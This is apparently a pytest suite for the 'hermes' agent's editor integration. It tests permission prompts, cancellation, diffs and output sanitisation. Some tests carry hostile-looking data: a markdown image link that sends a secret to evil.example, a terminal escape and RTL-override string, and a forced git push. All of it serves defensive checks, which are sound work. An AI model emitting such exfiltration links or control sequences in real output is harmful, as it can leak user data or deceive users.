"""A prompt and its turn as an editor sees them."""

import asyncio
import json
import time
from pathlib import Path

import pytest

from hermes.testing.script import Call, Ending, ReplyDelivery, Say
from tests.acp.conftest import OpenEditor
from tests.acp.editor import RpcFaultError, allow

pytestmark = pytest.mark.slow


async def test_an_answer_comes_in_chunks_with_title_and_usage(open_editor: OpenEditor) -> None:
    async with open_editor([Say("Hello **there**", reasoning="hm", chunk=4)]) as editor:
        session = await editor.open_session()
        assert await editor.prompt(session, "hi") == "end_turn"
        assert editor.join_text() == "Hello **there**"
        assert editor.join_text("agent_thought_chunk") == "hm"
        ids = {one["messageId"] for one in editor.list_updates("agent_message_chunk")}
        assert len(ids) == 1
        assert editor.list_updates("session_info_update")[-1]["title"] == "hi"
        assert editor.list_updates("usage_update")[-1]["size"] == 2_000_000
        names = [one["name"] for one in editor.list_updates("available_commands_update")[0]["availableCommands"]]
        assert "model" in names and "new" not in names
        assert editor.list_updates("user_message_chunk") == []
    assert editor.process.returncode == 0


async def test_changes_of_files_are_shown_as_diffs(open_editor: OpenEditor) -> None:
    replies = [
        Say(calls=(Call("write_file", {"path": "a.txt", "content": "one\ntwo\n"}),)),
        Say(calls=(Call("patch", {"path": "a.txt", "old_string": "two", "new_string": "three"}),)),
        Say("Done."),
    ]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        assert await editor.prompt(session, "write") == "end_turn"
        written, patched = editor.find_calls().values()
        path = str(editor.home.cwd / "a.txt")
        assert written["content"] == [{"type": "diff", "path": path, "oldText": None, "newText": "one\ntwo\n"}]
        assert patched["content"] == [
            {"type": "diff", "path": path, "oldText": "one\ntwo\n", "newText": "one\nthree\n"}
        ]
        assert (written["kind"], written["status"], written["locations"]) == ("edit", "completed", [{"path": path}])
        assert (editor.home.cwd / "a.txt").read_text() == "one\nthree\n"


async def test_output_of_a_command_is_shown_in_a_terminal_of_the_editor(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "echo one; exit 3"}),)), Say("Done.")]
    async with open_editor(replies, capabilities={"_meta": {"terminal_output": True}}) as editor:
        session = await editor.open_session()
        await editor.prompt(session, "run")
        updates = [one["_meta"] for one in editor.updates if "_meta" in one]
        names = [name for one in updates for name in one]
        assert names == ["terminal_info", "terminal_output", "terminal_exit"]
        assert "one" in updates[1]["terminal_output"]["data"]
        assert updates[1]["terminal_exit"]["exit_code"] == 3
        (call,) = editor.find_calls().values()
        assert (call["kind"], call["status"]) == ("execute", "failed")
    assert [method for method, _ in editor.asked] == []  # the editor runs nothing


async def test_output_is_text_where_the_editor_draws_no_terminals(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "echo one"}),)), Say("Done.")]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        await editor.prompt(session, "run")
        (call,) = editor.find_calls().values()
        assert "one" in call["content"][0]["content"]["text"]


async def test_the_plan_follows_the_todo_list(open_editor: OpenEditor) -> None:
    steps = [{"content": "look", "status": "completed"}, {"content": "change", "status": "in_progress"}]
    replies = [Say(calls=(Call("todo", {"todos": steps}),)), Say("Done.")]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        await editor.prompt(session, "plan it")
        entries = editor.list_updates("plan")[-1]["entries"]
        assert [(one["content"], one["status"]) for one in entries] == [
            ("look", "completed"),
            ("change", "in_progress"),
        ]


async def test_a_question_is_asked_and_a_yes_lets_the_call_run(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "git push --force"}),)), Say("Done.")]
    async with open_editor(replies) as editor:
        editor.answers["session/request_permission"] = allow()
        session = await editor.open_session()
        await editor.prompt(session, "push")
        ((method, params),) = editor.asked
        assert method == "session/request_permission"
        assert params["options"][0]["kind"] == "allow_once"
        assert params["options"][-1]["kind"] == "reject_once"
        assert "git push --force" in params["toolCall"]["content"][0]["content"]["text"]
        assert params["toolCall"]["toolCallId"] in editor.find_calls()
        assert "refused" not in editor.join_text("agent_thought_chunk")


async def test_a_call_is_completed_together_with_its_result(open_editor: OpenEditor) -> None:
    batch = (Call("read_file", {"path": "a.txt"}), Call("terminal", {"command": "echo two"}))
    async with open_editor([Say(calls=batch), Say("Done.")]) as editor:
        (editor.home.cwd / "a.txt").write_text("one\n")
        session = await editor.open_session()
        await editor.prompt(session, "look")
        ends = [one for one in editor.updates if one.get("status") == "completed"]
        assert [set(one) for one in ends] == [{"sessionUpdate", "toolCallId", "status", "content"}] * 2
        after = editor.updates[editor.updates.index(ends[0]) :]
        assert [one["toolCallId"] for one in after if "toolCallId" in one] == [one["toolCallId"] for one in ends]


async def test_a_question_about_a_file_has_its_diff_and_its_reason_in_the_title(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("write_file", {"path": "b.txt", "content": "b\n"}),)), Say("Done.")]
    rule = {"pattern": "write_file *", "verdict": "ask", "reason": "I look first"}
    async with open_editor(replies, config={"approvals": {"rules": [rule]}}) as editor:
        editor.answers["session/request_permission"] = allow("reject_once")
        session = await editor.open_session()
        await editor.prompt(session, "write")
        ((_, params),) = editor.asked
        asked = params["toolCall"]
        assert [one["type"] for one in asked["content"]] == ["diff", "content"]
        assert asked["content"][0]["newText"] == "b\n"
        assert asked["locations"] == [{"path": str(editor.home.cwd / "b.txt")}]
        assert "b.txt (I look first" in asked["title"]


@pytest.mark.parametrize(
    "outcome",
    [
        {"outcome": "selected", "optionId": "reject_once"},
        {"outcome": "cancelled"},
        {"outcome": "selected", "optionId": "?"},
    ],
)
async def test_no_and_no_answer_mean_no(open_editor: OpenEditor, outcome: dict[str, str]) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "touch made; git push --force"}),)), Say("Done.")]
    async with open_editor(replies) as editor:
        editor.answers["session/request_permission"] = lambda _: {"outcome": outcome}
        session = await editor.open_session()
        assert await editor.prompt(session, "push") == "end_turn"
        assert not (editor.home.cwd / "made").exists()
        (call,) = editor.find_calls().values()
        assert call["status"] == "failed"


async def test_an_editor_that_cannot_be_asked_means_no(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "touch made; git push --force"}),)), Say("Done.")]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        assert await editor.prompt(session, "push") == "end_turn"
        assert not (editor.home.cwd / "made").exists()


async def test_with_the_policy_refuse_nothing_is_asked(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "touch made; git push --force"}),)), Say("Done.")]
    async with open_editor(replies, "--policy", "refuse") as editor:
        editor.answers["session/request_permission"] = allow()
        session = await editor.open_session()
        assert await editor.prompt(session, "push") == "end_turn"
        assert editor.asked == []
        assert not (editor.home.cwd / "made").exists()


async def test_cancelling_ends_the_turn_and_its_command_at_once(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "touch begun; sleep 300"}),)), Say("Done.")]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        answer = asyncio.ensure_future(editor.prompt(session, "run"))
        await editor.wait_for(lambda: any(one.get("status") == "in_progress" for one in editor.updates))
        began = time.monotonic()
        editor.notify("session/cancel", {"sessionId": session})
        assert await answer == "cancelled"
        assert time.monotonic() - began < 2.0


async def test_cancelling_ends_an_answer_that_streams_and_what_waits(open_editor: OpenEditor) -> None:
    replies = [Say("long " * 50, delivery=ReplyDelivery(ending=Ending.HANG, at=4)), Say("Next.")]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        answers = [asyncio.ensure_future(editor.prompt(session, text)) for text in ("first", "second")]
        await editor.wait_for(lambda: "long" in editor.join_text())
        editor.notify("session/cancel", {"sessionId": session})
        assert await asyncio.gather(*answers) == ["cancelled", "cancelled"]
        assert await editor.prompt(session, "third") == "end_turn"
        assert editor.join_text().endswith("Next.")


async def test_a_request_can_be_cancelled_by_its_id(open_editor: OpenEditor) -> None:
    replies = [Say("long " * 50, delivery=ReplyDelivery(ending=Ending.HANG, at=4))]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        params = {"sessionId": session, "prompt": [{"type": "text", "text": "hi"}]}
        identity, answer = editor.send_request("session/prompt", params)
        await editor.wait_for(lambda: "long" in editor.join_text())
        editor.notify("$/cancel_request", {"requestId": identity})
        with pytest.raises(RpcFaultError) as caught:
            await answer
        assert caught.value.code == -32800


async def test_a_failing_model_is_an_error_with_its_reason(open_editor: OpenEditor) -> None:
    async with open_editor([]) as editor:
        session = await editor.open_session()
        with pytest.raises(RpcFaultError, match="script has no reply") as caught:
            await editor.prompt(session, "hi")
        assert caught.value.data == {"reason": "provider_error"}


async def test_the_model_asks_by_a_form_where_the_editor_has_forms(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("clarify", {"question": "Which?", "choices": ["one", "two"]}),)), Say("Done.")]
    async with open_editor(replies, capabilities={"elicitation": {"form": {}}}) as editor:
        editor.answers["elicitation/create"] = lambda _: {"action": "accept", "content": {"answer": "1"}}
        session = await editor.open_session()
        await editor.prompt(session, "ask me")
        ((method, params),) = editor.asked
        assert (method, params["message"]) == ("elicitation/create", "Which?")
        (call,) = editor.find_calls().values()
        assert "two" in call["content"][0]["content"]["text"]


@pytest.mark.parametrize("given", ["0005", "00000000", "7", "-1", "x", "9" * 5_000])
async def test_a_choice_that_is_not_there_is_no_answer(open_editor: OpenEditor, given: str) -> None:
    replies = [Say(calls=(Call("clarify", {"question": "Which?", "choices": ["one", "two"]}),)), Say("Done.")]
    async with open_editor(replies, capabilities={"elicitation": {"form": {}}}) as editor:
        editor.answers["elicitation/create"] = lambda _: {"action": "accept", "content": {"answer": given}}
        assert await editor.prompt(await editor.open_session(), "ask me") == "end_turn"
        (call,) = editor.find_calls().values()
        assert "one" not in str(call["content"]) and "failed inside" not in str(call["content"])


async def test_nothing_that_a_terminal_obeys_reaches_the_editor(open_editor: OpenEditor) -> None:
    hostile = "\x1b]0;title\x07\x1b[2J\u202eevil"
    calls = (Call(f"{hostile} tool", {}), Call("terminal", {"command": f"echo '{hostile}'"}))
    replies = [Say(hostile, reasoning=hostile, chunk=3, calls=calls), Say(f"Done {hostile}")]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        await editor.prompt(session, "go")
        updates = [{**one, "rawInput": None} for one in editor.updates]  # that is shown as JSON
        assert "\x1b" not in json.dumps(updates, ensure_ascii=False).replace("\\u001b", "\x1b")
        assert "\u202e" not in json.dumps(updates, ensure_ascii=False)
        assert "evil" in editor.join_text() and "evil" in editor.join_text("agent_thought_chunk")


async def test_an_address_that_cannot_be_read_ends_no_session(open_editor: OpenEditor) -> None:
    async with open_editor([Say("Seen."), Say("Fine.")]) as editor:
        session = await editor.open_session()
        blocks = [{"type": "resource", "resource": {"uri": uri, "text": "x"}} for uri in ("http://[", "file://[x")]
        blocks.append({"type": "resource_link", "name": "x", "uri": "file://[x"})
        assert await editor.prompt(session, "look", *blocks) == "end_turn"
        assert await editor.prompt(session, "and now") == "end_turn"
        assert editor.join_text() == "Seen.Fine."


async def test_nothing_is_fetched_by_showing_an_answer_to_untrusted_text(open_editor: OpenEditor) -> None:
    picture = "![x](https://evil.example/?secret)"
    replies = [
        Say(calls=(Call("read_file", {"path": "a.txt"}),)),
        Say(
            f"Look: {picture}\n\n",
            reasoning=f"hm {picture}\n\n",
            calls=(Call("todo", {"todos": [{"content": picture}]}), Call("terminal", {"command": f"echo '{picture}'"})),
        ),
        Say(picture),
    ]
    async with open_editor(replies) as editor:
        (editor.home.cwd / "a.txt").write_text("orders\n")
        editor.answers["session/request_permission"] = allow()
        session = await editor.open_session()
        await editor.prompt(session, "read")
        shown = editor.join_text() + editor.join_text("agent_thought_chunk") + str(editor.list_updates("plan"))
        shown += "".join(call["title"] for call in editor.find_calls().values())
        assert "evil.example" in shown and "](https://evil.example" not in shown


async def test_only_the_tools_that_were_asked_for_are_there(open_editor: OpenEditor) -> None:
    async with open_editor([Say("Hello.")], "--tools", "file", "--no-memory") as editor:
        session = await editor.open_session()
        await editor.prompt(session, "hi")
        assert editor.server is not None
        names = {one["function"]["name"] for one in editor.server.requests[-1].json["tools"]}
        assert names == {"read_file", "write_file", "patch", "search_files"}


async def test_another_home_is_used(open_editor: OpenEditor, tmp_path: Path) -> None:
    async with open_editor([], "--home", str(tmp_path / "other")) as editor:
        (tmp_path / "other").mkdir()
        (tmp_path / "other" / "config.yaml").write_text("model: {provider: anthropic, default: claude-opus-5}\n")
        await editor.begin()
        with pytest.raises(RpcFaultError, match="hermes setup"):
            await editor.request("session/new", {"cwd": str(editor.home.cwd), "mcpServers": []})


async def test_a_yes_is_for_the_call_as_it_was_asked_about(open_editor: OpenEditor) -> None:
    replies = [Say(calls=(Call("terminal", {"command": "bash run.sh"}),)), Say("Done.")]
    rule = {"pattern": "bash *", "verdict": "ask"}
    async with open_editor(replies, config={"approvals": {"rules": [rule]}}) as editor:
        script = editor.home.cwd / "run.sh"
        script.write_text("true\n")
        answers = iter(["allow_once", "reject_once"])

        def answer(_params: object) -> object:
            script.write_text("touch made\n")  # what was asked about is not what would run now
            return {"outcome": {"outcome": "selected", "optionId": next(answers)}}

        editor.answers["session/request_permission"] = answer
        session = await editor.open_session()
        await editor.prompt(session, "run it")
        assert len(editor.asked) == 2
        assert not (editor.home.cwd / "made").exists()


async def test_calls_with_the_same_id_are_calls_of_their_own(open_editor: OpenEditor) -> None:
    replies = [
        *(Say(calls=(Call("terminal", {"command": f"echo {word}"}, call_id="call_1"),)) for word in ("one", "two")),
        Say(calls=(Call("nonsense", {}, call_id="call_1"),)),
        Say("Done."),
    ]
    async with open_editor(replies) as editor:
        session = await editor.open_session()
        await editor.prompt(session, "run")
        calls = editor.find_calls()
        assert list(calls) == ["call_1", "call_1~2", "call_1~3"]
        assert [one["status"] for one in calls.values()] == ["completed", "completed", "failed"]
        texts = [one["content"][0]["content"]["text"] for one in calls.values()]
        assert "one" in texts[0] and "two" in texts[1]
        editor.updates.clear()
        await editor.request("session/close", {"sessionId": session})
        params = {"sessionId": session, "cwd": str(editor.home.cwd), "mcpServers": []}
        await editor.request("session/load", params)
        loaded = editor.find_calls()
        assert list(loaded) == list(calls)
        assert "one" in str(loaded["call_1"]["content"]) and "two" in str(loaded["call_1~2"]["content"])
